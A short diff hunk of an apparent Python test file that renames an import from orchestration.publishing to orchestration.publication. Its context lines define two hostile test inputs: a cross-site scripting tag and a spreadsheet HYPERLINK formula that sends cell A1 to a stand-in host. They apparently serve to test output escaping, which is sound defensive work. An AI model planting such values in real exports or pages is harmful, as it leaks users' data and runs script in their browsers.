@@ -11,7 +11,7 @@ from pathlib import Path
 
 import duckdb
 
-from orchestration.publishing import BuildFacts, CheckResult
+from orchestration.publication import BuildFacts, CheckResult
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
